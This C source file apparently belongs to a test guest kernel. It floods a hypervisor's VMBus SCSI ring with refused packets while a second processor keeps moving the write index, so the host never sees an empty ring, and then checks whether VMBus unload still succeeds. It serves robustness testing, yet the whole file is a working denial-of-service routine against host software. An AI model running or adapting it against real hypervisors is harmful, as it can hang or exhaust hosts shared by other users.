/*
 * A ring that is never empty: another processor moves the write index round and round over packets that are already in the
 * ring, so that the host always finds more of them.
 */
#include "flood.h"
#include "hypercall.h"
#include "interfaces.h"
#include "session.h"

/* A packet that storage refuses because it is too short for a command. The ring's size is a multiple of its size. */
struct refused {
    struct packet_header header;
    uint32_t operation, flags, status, padding;
    uint64_t trailer;
};
_Static_assert(sizeof(struct refused) == 40, "");
#define EXECUTE_SRB 3
#define RING_PAGES 1021
_Static_assert((RING_PAGES - 1) * PAGE_SIZE % sizeof(struct refused) == 0, "packets lie at the same places each time round");

static struct channel channel;
static volatile bool is_going, is_over;

static void cycle(void *unused)
{
    uint32_t size = channel.out.size, step = (size / sizeof(struct refused) / 2 - 1) * sizeof(struct refused), write = 0;
    (void)unused;
    is_going = true;
    while (!is_over) {
        write += step;
        if (write >= size)
            write -= size;
        *(volatile uint32_t *)&channel.out.control->write = write;
    }
}

bool flood_ring(void (*begun)(void))
{
    const struct offer *offer = vmbus_offer(&scsi_interface, NULL, 0);
    if (!offer || !channel_open(&channel, offer, pages_allocate_zeroed(2 * RING_PAGES), RING_PAGES, VMBUS_NO_VP))
        return FAILED("there is no channel");
    if (smp_start_all() < 2)
        return FAILED("this takes two processors");
    struct refused *packets = (struct refused *)channel.out.data;
    for (uint32_t i = 0; i < channel.out.size / sizeof *packets; i++)
        packets[i] = (struct refused){
            .header = {.type = PACKET_IN_BAND, .payload_offset = 2, .length = 4, .flags = PACKET_WANTS_COMPLETION, .transaction = i},
            .operation = EXECUTE_SRB,
        };
    smp_run(1, cycle, NULL);
    if (!WAIT_UNTIL(is_going, 20000))
        return FAILED("the second processor does not run");
    begun();
    hypercall(CALL_SIGNAL_EVENT | CALL_FAST, offer->connection, 0);
    while (flood_goes_on())
        wait_a_while();
    /* The channel must be closed while the ring is never empty. */
    print("VMBus is %s\n", vmbus_unload() ? "left" : "not left");
    is_over = true;
    smp_wait(1, 20000);
    machine_power_off();
    return true;
}
